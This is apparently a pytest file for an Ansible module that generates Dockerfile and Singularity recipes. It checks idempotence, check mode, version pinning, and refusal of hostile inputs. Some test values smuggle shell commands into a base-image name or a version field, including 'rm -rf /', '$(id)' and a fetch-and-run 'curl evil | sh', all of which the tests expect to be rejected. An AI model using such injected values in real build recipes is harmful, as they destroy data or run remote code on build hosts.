"""The container_recipe core: files, idempotence, check mode, and DSL values that must not get through."""

from __future__ import annotations

import os

import pytest

from helpers import spec_of

from ansible_collections.sodalite.modak.plugins.module_utils.errors import ModakError
from ansible_collections.sodalite.modak.plugins.module_utils.recipe import generate
from ansible_collections.sodalite.modak.plugins.module_utils.recipe.blocks import RecipeError

from cases import CASES


def test_write_is_idempotent_and_check_mode_writes_nothing(tmp_path):
    out = tmp_path / "recipes"
    planned = generate.write(spec_of(CASES["pytorch-rocm-pip"]), str(out), check_mode=True)
    assert planned["changed"] and not out.exists()
    first = generate.write(spec_of(CASES["pytorch-rocm-pip"]), str(out))
    assert first["changed"] and len(first["diff"]) == 2
    assert sorted(os.listdir(out)) == ["Dockerfile", "Singularity.def"]
    assert first["recipes"]["docker"] == str(out / "Dockerfile")
    assert first["labels"]["modak.recipe.sha256"] == first["recipe_sha256"]
    second = generate.write(spec_of(CASES["pytorch-rocm-pip"]), str(out))
    assert not second["changed"] and second["diff"] == []
    only = generate.write(spec_of(CASES["hpc-openmp"]), str(out), formats=["docker"])
    assert only["changed"] and list(only["recipes"]) == ["docker"]


@pytest.mark.parametrize("base", ["debian; rm -rf /", "x\nRUN evil", "$(id)", "-rf"])
def test_hostile_base_image_is_refused(base, tmp_path):
    with pytest.raises(RecipeError):
        generate.write(spec_of(CASES["hpc-openmp"]), str(tmp_path), base_image=base)


def test_dsl_values_are_pattern_checked_before_a_recipe():
    doc = CASES["tensorflow-cuda-pip"]
    bad = {"job": dict(doc["job"], optimisation=dict(doc["job"]["optimisation"],
                                                     opt_build={"cpu_type": "x86", "acc_type": "nvidia",
                                                                "cuda_version": "12.4\nRUN curl evil | sh"}))}
    with pytest.raises(ModakError):
        generate.render(spec_of(bad))


def test_version_ranges_need_one_version():
    doc = CASES["pytorch-rocm-pip"]
    section = dict(doc["job"]["optimisation"]["app_type-ai_training"],
                   **{"ai_framework-pytorch": {"version": ">=2.1,<2.4"}})
    bad = {"job": dict(doc["job"], optimisation=dict(doc["job"]["optimisation"], **{"app_type-ai_training": section}))}
    with pytest.raises(RecipeError, match="pins one version"):
        generate.render(spec_of(bad))
